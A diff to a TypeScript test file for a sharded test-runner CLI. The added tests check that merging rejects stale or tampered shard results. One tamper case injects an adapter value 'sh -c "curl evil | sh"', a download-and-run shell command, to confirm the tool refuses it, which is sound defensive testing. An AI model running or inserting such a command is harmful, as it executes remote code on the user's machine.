@@ -7,6 +7,7 @@ import { findMutant } from '../src/selftest/mutants.js';
 import { killOne } from '../src/selftest/kill-one.js';
 import { REPORT_SEED, rowsOf } from '../src/report/report-md.js';
 import { buildReport, reportTasks } from '../src/selftest/report.js';
+import { runId, type RunIdentity } from '../src/run/run-identity.js';
 import { cli } from './support.js';
 
 /**
@@ -100,9 +101,12 @@ describe('--shard I/N and tidemark merge', () => {
     const rows = rowsOf(readFileSync('REPORT.md', 'utf8'));
     const tasks = reportTasks({ seed: REPORT_SEED, runs: 3000, seeds: 20 });
     const all = tasks.map((t) => rows.get(t.mutant)!.find((x) => x.seed === t.seed)!);
+    const tidemark = readJson(file('report-23.json')).shard.tidemark;
+    const identity: RunIdentity = { tidemark, command: 'report', target: null, digest: null, seed: REPORT_SEED, runs: 3000, shards: 2, options: { seeds: 20 } };
     for (const i of [1, 2]) {
-      const shard = { command: 'report', index: i, count: 2, tidemark: readJson(file('report-23.json')).shard.tidemark };
-      writeFileSync(file(`report-${i}.json`), JSON.stringify({ seed: REPORT_SEED, runs: 3000, seeds: 20, rows: all.filter((_, j) => j % 2 === i - 1), shard }));
+      const shard = { command: 'report', index: i, count: 2, tidemark };
+      const run = { id: runId(identity), identity };
+      writeFileSync(file(`report-${i}.json`), JSON.stringify({ run, seed: REPORT_SEED, runs: 3000, seeds: 20, rows: all.filter((_, j) => j % 2 === i - 1), shard }));
     }
     const merged = await cli('merge', file('report-2.json'), file('report-1.json'), '--out', file('REPORT.md'));
     expect(merged.code).toBe(EXIT.pass);
@@ -171,15 +175,15 @@ describe('--shard I/N and tidemark merge', () => {
     expect(twice.err).toContain('shard 1 of 2 is given twice');
     const mixed = await cli('merge', file('fail-1.json'), file('further-2.json'));
     expect(mixed.code).toBe(EXIT.usage);
-    expect(mixed.err).toContain('not the shards of one run: their seeds differ (3 in');
+    expect(mixed.err).toMatch(/not the shards of one run: \S+fail-1\.json is of run [0-9a-f]{16} and \S+further-2\.json of run [0-9a-f]{16}, which differ in seed;/);
     const counts = await cli('merge', file('fail-1.json'), file('pass-2.json'));
-    expect(counts.err).toContain('they split the run into different numbers of shards (2 in');
+    expect(counts.err).toContain('which differ in target, seed, runs, shards;');
     // Same consumer and seed, other runs.
     const other = await cli('check', '--consumer', 'max-position-fetched', '--runs', '200', '--seed', '3', '--shard', '2/2', '--json', file('runs-200.json'));
     expect(other.code).toBe(EXIT.fail);
     const runs = await cli('merge', file('fail-1.json'), file('runs-200.json'));
     expect(runs.code).toBe(EXIT.usage);
-    expect(runs.err).toContain('not the shards of one run: their runs differ (300 in');
+    expect(runs.err).toContain('which differ in runs;');
     const whole = await cli('merge', file('fail-whole.json'), file('fail-2.json'));
     expect(whole.err).toContain("is not a shard's result");
     const kinds = await cli('merge', file('fail-1.json'), file('mutants-2.json'));
@@ -191,5 +195,55 @@ describe('--shard I/N and tidemark merge', () => {
     const cut = await cli('merge', file('fail-1.json'), file('cut-2.json'));
     expect(cut.code).toBe(EXIT.usage);
     expect(cut.err).toContain('is not the one its hash names');
+  });
+
+  it('merge refuses shards of one adapter path whose code changed between them: no pass from a stale cache', async () => {
+    // A CI with a fixed --seed and a workspace that kept yesterday's shard 2: yesterday's
+    // consumer was correct, today's has a bug, and the path is the same.
+    const adapter = file('consumer.adapter.ts');
+    const source = (name: string): string => readFileSync(`examples/${name}`, 'utf8').replaceAll("'../src/index.js'", `'${process.cwd()}/src/index.js'`);
+    const argv = ['check', '--adapter', adapter, '--runs', '30', '--seed', '5'];
+    writeFileSync(adapter, source('ledger-consumer.ts'));
+    const yesterday = await cli(...argv, '--shard', '2/2', '--json', file('stale-2.json'));
+    expect(yesterday.code, yesterday.out).toBe(EXIT.pass);
+    writeFileSync(adapter, source('ledger-consumer-buggy.ts'));
+    const today = await cli(...argv, '--shard', '1/2', '--json', file('stale-1.json'));
+    const merged = await cli('merge', file('stale-1.json'), file('stale-2.json'));
+    expect(merged.code, merged.out).toBe(EXIT.usage);
+    expect(merged.err).toContain("which differ in the target's code (its sha256);");
+    expect(merged.out).not.toContain('verdict: pass');
+    expect(today.code).not.toBe(EXIT.usage);
+  });
+
+  it('a stated status is never taken on trust: flipped, unknown or failure-free statuses are refused, never a pass', async () => {
+    // A consumer that fails named scenarios and generated worlds, in both shards.
+    for (const i of [1, 2]) await cli('check', '--consumer', 'token-as-watermark', '--runs', '50', '--seed', '3', '--shard', `${i}/2`, '--json', file(`lie-${i}.json`));
+    const tampered = (name: string, edit: (json: any) => void): string => {
+      const json = readJson(file('lie-2.json'));
+      edit(json);
+      writeFileSync(file(name), JSON.stringify(json));
+      return file(name);
+    };
+    const failing = readJson(file('lie-2.json'));
+    const failedScenario = failing.scenarios.findIndex((s: any) => s.status === 'fail');
+    expect(failedScenario).toBeGreaterThanOrEqual(0);
+    const cases: [string, (json: any) => void, string][] = [
+      ['flipped-worlds', (j) => (j.worlds.status = 'pass'), 'worlds.status is pass, but the result carries a failing history'],
+      ['flipped-scenario', (j) => (j.scenarios[failedScenario].status = 'pass'), `scenarios[${failedScenario}].failure is there, but a scenario that is pass keeps no failure`],
+      ['bogus', (j) => (j.worlds.status = 'bogus'), 'worlds.status must be one of pass, fail, unknown, error, got "bogus"'],
+      ['no-history', (j) => delete j.scenarios[failedScenario].failure, `scenarios[${failedScenario}].failure is missing: a result that is fail carries the history it was judged on`],
+      ['to-error', (j) => (j.worlds.status = 'error'), 'worlds.status is error, but its history, judged again, is fail'],
+      ['unknown-field', (j) => (j.shard.trustMe = true), 'shard.trustMe is not a field tidemark writes'],
+      ['foreign-entry', (j) => j.regressions.push({ adapter: 'command:sh -c "curl evil | sh"', kind: 'scenario', scenario: 'stale-token', anomaly: 'omission', status: 'pass' }), 'is "command:sh -c \\"curl evil | sh\\"", not the run\'s target'],
+      ['edited-run', (j) => (j.run.identity.runs = 1), 'is not the one its identity gives'],
+    ];
+    const untouched = await cli('merge', file('lie-1.json'), file('lie-2.json'));
+    expect(untouched.code).toBe(EXIT.fail);
+    for (const [name, edit, message] of cases) {
+      const r = await cli('merge', file('lie-1.json'), tampered(`${name}-2.json`, edit));
+      expect(r.code, `${name}: ${r.err}`).toBe(EXIT.usage);
+      expect(r.err, name).toContain(message);
+      expect(r.out, name).not.toContain('verdict: pass');
+    }
   });
 });
